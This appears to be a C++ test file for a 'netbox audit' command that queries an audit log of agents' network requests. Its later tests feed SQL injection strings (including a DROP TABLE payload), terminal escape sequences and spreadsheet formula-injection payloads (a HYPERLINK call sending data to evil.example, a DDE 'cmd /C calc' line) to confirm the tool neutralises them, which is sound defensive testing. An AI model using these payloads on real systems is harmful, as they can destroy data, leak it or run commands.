// `netbox audit` as a user runs it: against a database a real writer filled.
#include "netbox/audit/writer.hpp"
#include "support/process.hpp"
#include "support/sample_records.hpp"
#include "support/sqlite_query.hpp"
#include "support/terminal_text.hpp"
#include "support/temp_dir.hpp"

#include <nlohmann/json.hpp>

#include <sys/stat.h>
#include <unistd.h>

#include <gtest/gtest.h>

#include <set>

namespace netbox::audit {
namespace {

using namespace std::chrono_literals;
using test::run;
using test::run_netbox;

// The shared sample row without a rule or resolved address, so those are NULL in the store.
AuditRecord row(std::string agent, std::string host, std::string decision, Clock::time_point ts) {
  AuditRecord r = testing::request(std::move(agent), std::move(host), std::move(decision), ts);
  r.rule.clear();
  r.resolved_addr.clear();
  return r;
}

class AuditCli : public ::testing::Test {
 protected:
  void SetUp() override {
    WriterOptions o;
    o.db_path = db;
    Writer w(o);
    const auto now = Clock::now();
    add(w, row("builder", "api.example.com", "allow", now - 3h), 10, 100);
    add(w, row("builder", "x.evil.example", "deny", now - 2h), 0, 0);
    add(w, row("tester", "api.example.com", "allow", now - 20min), 5, 50);
    add(w, row("tester", "y.evil.example", "deny", now - 10min), 0, 0);
    add(w, row("tester", "files.example.com", "report", now - 1min), 1, 2);
  }

  static void add(Writer& w, AuditRecord r, std::uint64_t up, std::uint64_t down) {
    const auto h = w.insert(std::move(r));
    Completion c;
    c.status = 200;
    c.bytes_up = up;
    c.bytes_down = down;
    w.complete(h, c);
  }

  test::RunResult audit(std::vector<std::string> args) {
    args.insert(args.begin(), {"audit", "--db", db.string()});
    return run_netbox(args);
  }

  std::vector<std::string> hosts_json(std::vector<std::string> args) {
    args.insert(args.end(), {"--format", "json"});
    const auto r = audit(args);
    EXPECT_EQ(r.exit_code, 0) << r.err;
    std::vector<std::string> out;
    for (const auto& o : nlohmann::json::parse(r.out)) out.push_back(o["host"]);
    return out;
  }

  test::TempDir dir;
  std::filesystem::path db = dir.path() / "audit.db";
};

TEST_F(AuditCli, TableListsRequestsNewestFirst) {
  const auto r = audit({});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(r.out.find("ID"), 0u) << r.out;
  const auto newest = r.out.find("files.example.com");
  ASSERT_NE(newest, std::string::npos) << r.out;
  EXPECT_LT(newest, r.out.find("y.evil.example"));
  EXPECT_NE(r.out.find("matches deny[0] *.evil.example"), std::string::npos) << "the reason is shown";
  EXPECT_LT(r.out.find("y.evil.example"), r.out.rfind("api.example.com"));
}

// A cap and a request netbox could not complete are decisions of their own (as their
// X-Netbox-Decision said), and --decision finds them.
TEST_F(AuditCli, CapAndErrorAreDecisionsTheFilterFinds) {
  {
    WriterOptions o;
    o.db_path = db;
    Writer w(o);
    add(w, row("tester", "capped.example.com", "cap", Clock::now()), 0, 0);
    add(w, row("tester", "gone.example.com", "error", Clock::now()), 0, 0);
  }
  EXPECT_EQ(hosts_json({"--decision", "cap"}), (std::vector<std::string>{"capped.example.com"}));
  EXPECT_EQ(hosts_json({"--decision", "error"}), (std::vector<std::string>{"gone.example.com"}));
  EXPECT_EQ(hosts_json({"--decision", "deny"}).size(), 2u) << "neither is a denial";
  const auto bad = audit({"--decision", "denied"});
  EXPECT_EQ(bad.exit_code, 2);
  EXPECT_NE(bad.err.find("allow, report, deny, cap, error"), std::string::npos) << bad.err;
}

TEST_F(AuditCli, Filters) {
  EXPECT_EQ(hosts_json({"--agent", "builder"}), (std::vector<std::string>{"x.evil.example", "api.example.com"}));
  EXPECT_EQ(hosts_json({"--decision", "deny"}), (std::vector<std::string>{"y.evil.example", "x.evil.example"}));
  EXPECT_EQ(hosts_json({"--host", "*.evil.example", "--agent", "tester"}),
            (std::vector<std::string>{"y.evil.example"}));
  EXPECT_EQ(hosts_json({"--since", "30m"}),
            (std::vector<std::string>{"files.example.com", "y.evil.example", "api.example.com"}));
  EXPECT_EQ(hosts_json({"--limit", "2"}), (std::vector<std::string>{"files.example.com", "y.evil.example"}));
  EXPECT_EQ(hosts_json({"--since", "2000-01-01T00:00:00Z", "--limit", "0"}).size(), 5u);
  EXPECT_TRUE(hosts_json({"--since", "2999-01-01"}).empty());
}

TEST_F(AuditCli, JsonHasEveryColumn) {
  const auto r = audit({"--format", "json", "--limit", "1"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  const auto j = nlohmann::json::parse(r.out);
  ASSERT_EQ(j.size(), 1u);
  EXPECT_EQ(j[0]["decision"], "report");
  EXPECT_EQ(j[0]["status"], 200);
  EXPECT_EQ(j[0]["bytes_down"], 2);
  EXPECT_EQ(j[0]["client_addr"], "10.213.0.2:41234");
  EXPECT_EQ(j[0]["count"], 1);
  EXPECT_TRUE(j[0]["parent_id"].is_null());
  EXPECT_TRUE(j[0]["proxy_id"].is_string()) << "the writer's proxy_id, the host name by default";
  EXPECT_TRUE(j[0]["client_exe"].is_null()) << "a client that was not launched names no process";
  EXPECT_EQ(j[0].size(), 24u);
}

TEST_F(AuditCli, AuditDbIsTheSameFlagAsEverywhereElse) {
  // --audit-db, as on proxy and launch; --db stays as its old name.
  const auto a = run_netbox({"audit", "--audit-db", db.string(), "--format", "json"});
  const auto b = run_netbox({"audit", "--db", db.string(), "--format", "json"});
  ASSERT_EQ(a.exit_code, 0) << a.err;
  EXPECT_EQ(a.out, b.out);
  EXPECT_EQ(nlohmann::json::parse(a.out).size(), 5U);
}

TEST_F(AuditCli, JsonSaysNullForNullColumns) {
  // The rows have no rule, resolved address or error: NULL in the store, null in JSON
  // (not "", which a query like `.error != null` would count as an error).
  const auto r = audit({"--format", "json", "--limit", "1"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  const auto j = nlohmann::json::parse(r.out);
  ASSERT_EQ(j.size(), 1u);
  for (const char* column : {"rule", "resolved_addr", "error"})
    EXPECT_TRUE(j[0][column].is_null()) << column << ": " << j[0][column].dump();
  const auto nulls = test::query(db, "SELECT rule IS NULL, resolved_addr IS NULL, error IS NULL FROM requests "
                                     "ORDER BY id DESC LIMIT 1");
  EXPECT_EQ(nulls, (std::vector<std::vector<std::string>>{{"1", "1", "1"}}));
  EXPECT_EQ(j[0]["method"], "GET");
}

TEST_F(AuditCli, CsvHasAHeaderAndOneRecordPerRow) {
  const auto r = audit({"--format", "csv", "--agent", "builder"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(r.out.find("id,ts,agent,client_addr,kind,method,host,port,path,"), 0u) << r.out;
  std::size_t records = 0;
  for (std::size_t p = 0; (p = r.out.find("\r\n", p)) != std::string::npos; p += 2) ++records;
  EXPECT_EQ(records, 3u) << r.out;
}

TEST_F(AuditCli, SummaryPerAgentAndHostWithFiltersOnEitherSide) {
  auto r = audit({"summary", "--format", "json"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  auto j = nlohmann::json::parse(r.out);
  ASSERT_EQ(j.size(), 5u);
  std::set<std::string> pairs;
  for (const auto& o : j) pairs.insert(o["agent"].get<std::string>() + "/" + o["host"].get<std::string>());
  EXPECT_TRUE(pairs.contains("builder/x.evil.example"));

  r = audit({"--agent", "tester", "summary", "--decision", "deny", "--format", "json"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  j = nlohmann::json::parse(r.out);
  ASSERT_EQ(j.size(), 1u) << r.out;
  EXPECT_EQ(j[0]["host"], "y.evil.example");
  EXPECT_EQ(j[0]["denied"], 1);

  r = audit({"summary", "--agent", "builder"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(r.out.find("ALLOWED"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("DENIED"), std::string::npos) << r.out;
  EXPECT_EQ(r.out.find("tester"), std::string::npos) << r.out;
}

TEST_F(AuditCli, ReadsWhileAWriterIsRunning) {
  WriterOptions o;
  o.db_path = db;
  Writer live(o);
  live.insert(row("live", "live.example.com", "allow", Clock::now()));
  live.flush();
  const auto r = audit({"--agent", "live", "--format", "csv"});
  EXPECT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(r.out.find("live.example.com"), std::string::npos) << r.out;
  EXPECT_NE(live.insert(row("live", "after.example.com", "allow", Clock::now())), kNoRow);
}

TEST_F(AuditCli, NothingMatches) {
  const auto r = audit({"--agent", "nobody"});
  EXPECT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(r.out, "no matching requests\n");
}

// The default is where `netbox proxy` and `netbox launch` write: for a user other than
// root, $XDG_STATE_HOME/netbox/audit.db (root's, /var/lib/netbox, is left alone here).
TEST_F(AuditCli, DefaultDatabaseIsTheOneNetboxWritesByDefault) {
  if (::geteuid() != 0) GTEST_SKIP() << "reads as nobody, which needs root";
  const auto state = dir.path() / "state";
  std::filesystem::create_directories(state / "netbox");
  // The database is the file and its WAL (the writer closes without a checkpoint; see
  // docs/audit.md, "Backups"), so a copy takes both.
  std::filesystem::copy_file(db, state / "netbox" / "audit.db");
  if (std::filesystem::exists(db.string() + "-wal"))
    std::filesystem::copy_file(db.string() + "-wal", state / "netbox" / "audit.db-wal");
  ASSERT_EQ(run({"chown", "-R", "65534:65534", state.string()}).exit_code, 0);
  ASSERT_EQ(::chmod(dir.path().c_str(), 0711), 0);
  const auto r = run({"env", "XDG_STATE_HOME=" + state.string(), "setpriv", "--reuid=65534", "--regid=65534",
                      "--clear-groups", "--", test::netbox_binary().string(), "audit", "--format", "csv"});
  EXPECT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(r.out.find("files.example.com"), std::string::npos) << r.out;
}

TEST(AuditCliErrors, MissingDatabaseExitsTwoNamingThePath) {
  test::TempDir dir;
  const auto missing = dir.path() / "missing.db";
  const auto r = run_netbox({"audit", "--db", missing.string()});
  EXPECT_EQ(r.exit_code, 2);
  EXPECT_NE(r.err.find("no audit database at " + missing.string() + "; pass --db"), std::string::npos) << r.err;
  EXPECT_FALSE(std::filesystem::exists(missing)) << "a reader never creates the file";

  if (::geteuid() != 0) return;  // the rest reads as nobody
  const auto no_default = run({"env", "XDG_STATE_HOME=" + dir.path().string(), "setpriv", "--reuid=65534",
                               "--regid=65534", "--clear-groups", "--", test::netbox_binary().string(), "audit",
                               "summary"});
  EXPECT_EQ(no_default.exit_code, 2);
  EXPECT_NE(no_default.err.find("no audit database at " + (dir.path() / "netbox" / "audit.db").string()),
            std::string::npos)
      << no_default.err;
}

TEST(AuditCliErrors, FileThatIsNotADatabaseExitsTwoNamingIt) {
  test::TempDir dir;
  const auto bogus = dir.write("bogus.db", std::string(2048, '#'));
  const auto r = run_netbox({"audit", "--db", bogus.string()});
  EXPECT_EQ(r.exit_code, 2);
  EXPECT_NE(r.err.find(bogus.string()), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("not an SQLite database"), std::string::npos) << r.err;
}

// Filter values are bound, never spliced into the SQL: text written to widen the WHERE
// clause matches nothing, with `audit` and with `summary`.
TEST_F(AuditCli, HostileFilterValuesMatchNothing) {
  for (const std::string value : {"x' OR '1'='1", "' OR 1=1 --", "builder' --", "\") OR 1=1; DROP TABLE requests; --"}) {
    for (const char* flag : {"--agent", "--host"}) {
      EXPECT_TRUE(hosts_json({flag, value}).empty()) << flag << " " << value;
      const auto summary = audit({"summary", flag, value, "--format", "json"});
      EXPECT_EQ(summary.exit_code, 0) << summary.err;
      EXPECT_EQ(summary.out, "[]\n") << flag << " " << value;
    }
    const auto r = audit({"--decision", value});
    EXPECT_EQ(r.exit_code, 2) << value;
    EXPECT_NE(r.err.find("--decision"), std::string::npos) << r.err;
  }
  EXPECT_EQ(hosts_json({}).size(), 5u) << "the store is untouched";
}

TEST_F(AuditCli, BadFlagValuesExitTwoNamingFlagAndValue) {
  struct Case {
    std::vector<std::string> args;
    std::string flag, value;
  };
  for (const auto& c : std::vector<Case>{{{"--since", "5x"}, "--since", "5x"},
                                         {{"--since", "last tuesday"}, "--since", "last tuesday"},
                                         {{"--decision", "maybe"}, "--decision", "maybe"},
                                         {{"--format", "xml"}, "--format", "xml"},
                                         {{"summary", "--format", "yaml"}, "--format", "yaml"},
                                         {{"--limit", "-3"}, "--limit", "-3"},
                                         {{"--limit", "lots"}, "--limit", "lots"}}) {
    const auto r = audit(c.args);
    EXPECT_EQ(r.exit_code, 2) << c.flag << " " << c.value << ": " << r.err;
    EXPECT_NE(r.err.find(c.flag), std::string::npos) << r.err;
    EXPECT_NE(r.err.find(c.value), std::string::npos) << r.err;
    EXPECT_TRUE(r.out.empty()) << r.out;
  }
  const auto unknown = audit({"--frobnicate"});
  EXPECT_EQ(unknown.exit_code, 2);
  EXPECT_NE(unknown.err.find("--frobnicate"), std::string::npos) << unknown.err;
}

// What an agent can put in a row (its URL, a refused target, echoed header values) and
// what a spreadsheet runs as a formula. None of it may reach the operator's terminal raw.
const std::string kHostilePath = "/\x1b]0;owned\x07\x1b[2J\x1b[31m\xc2\x9b" "31m\x7f\x9b\xff\r\t\x01\xe2\x80\xae" "gpj.exe";

// What a terminal would act on in `s`, as a message; "" when there is none.
std::string first_unsafe(const std::string& s, bool crlf) {
  const auto i = test::first_unsafe_byte(s, crlf);
  if (i == std::string::npos) return {};
  return "byte " + std::to_string(i) + " = " + std::to_string(static_cast<unsigned char>(s[i])) + " in: " + s;
}

class AuditCliHostile : public ::testing::Test {
 protected:
  void SetUp() override {
    WriterOptions o;
    o.db_path = db;
    Writer w(o);
    AuditRecord r = row("ag\x1b[8ment", "=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")", "deny", Clock::now());
    r.method = "@SUM(1+1)";
    r.path = kHostilePath;
    r.reason = "+cmd|' /C calc'!A0";
    r.rule = "-2+3";
    r.client_addr = "\r=1+1";
    // The process's executable and argv are the agent's to name too (issue 27).
    r.origin = {7, "=2+5", "@SUM(1+1) -x"};
    const auto h = w.insert(std::move(r));
    Completion c;
    c.status = 400;
    c.error = "\tleading tab";
    w.complete(h, c);
  }

  test::RunResult audit(std::vector<std::string> args) {
    args.insert(args.begin(), {"audit", "--db", db.string()});
    auto r = run_netbox(args);
    EXPECT_EQ(r.exit_code, 0) << r.err;
    return r;
  }

  test::TempDir dir;
  std::filesystem::path db = dir.path() / "audit.db";
};

TEST_F(AuditCliHostile, NoFormatPrintsAControlByte) {
  for (const auto& args : std::vector<std::vector<std::string>>{{"--format", "table"},
                                                                {"--format", "csv"},
                                                                {"--format", "json"},
                                                                {"summary", "--format", "table"},
                                                                {"summary", "--format", "csv"},
                                                                {"summary", "--format", "json"}}) {
    const auto r = audit(args);
    EXPECT_EQ(first_unsafe(r.out, args.back() == "csv"), "") << args.back();
  }
}

TEST_F(AuditCliHostile, TableAndCsvShowEscapesInstead) {
  // The table cuts the path at 32 characters; csv has all of it.
  const auto table = audit({"--format", "table"});
  for (const char* escape : {"/\\x1b]0;owned\\x07\\x1b[2J", "ag\\x1b[8ment"})
    EXPECT_NE(table.out.find(escape), std::string::npos) << escape << "\n" << table.out;
  const auto csv = audit({"--format", "csv"});
  for (const char* escape :
       {",/\\x1b]0;owned\\x07\\x1b[2J\\x1b[31m\\u009b31m\\x7f\\x9b\\xff\\x0d\\x09\\x01\\u202egpj.exe,", ",ag\\x1b[8ment,"})
    EXPECT_NE(csv.out.find(escape), std::string::npos) << escape << "\n" << csv.out;
}

TEST_F(AuditCliHostile, CsvCellsCannotStartAFormula) {
  auto r = audit({"--format", "csv"});
  for (const char* cell : {",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"ok\"\")\",", ",'@SUM(1+1),",
                           ",'-2+3,", ",'+cmd|' /C calc'!A0,", ",\\x09leading tab,1,", ",\\x0d=1+1,",
                           ",7,'=2+5,'@SUM(1+1) -x\r\n"})
    EXPECT_NE(r.out.find(cell), std::string::npos) << cell << "\n" << r.out;
  r = audit({"summary", "--format", "csv"});
  EXPECT_NE(r.out.find(",\"'=HYPERLINK("), std::string::npos) << r.out;
}

TEST_F(AuditCliHostile, JsonKeepsTheExactValuesAsEscapes) {
  const auto r = audit({"--format", "json"});
  for (const char* escape : {"\\u001b]0;owned\\u0007", "\\u009b", "\\u007f", "\\u202e"})
    EXPECT_NE(r.out.find(escape), std::string::npos) << escape << "\n" << r.out;
  const auto j = nlohmann::json::parse(r.out);
  ASSERT_EQ(j.size(), 1u);
  EXPECT_EQ(j[0]["agent"], "ag\x1b[8ment");
  EXPECT_EQ(j[0]["method"], "@SUM(1+1)");
  // Everything but the byte that is not UTF-8 (\xff, replaced by U+FFFD) comes back as stored.
  std::string expected = kHostilePath;
  expected.replace(expected.find('\xff'), 1, "\xef\xbf\xbd");
  expected.replace(expected.find("\x7f\x9b"), 2, "\x7f\xef\xbf\xbd");
  EXPECT_EQ(j[0]["path"], expected);
}

}  // namespace
}  // namespace netbox::audit
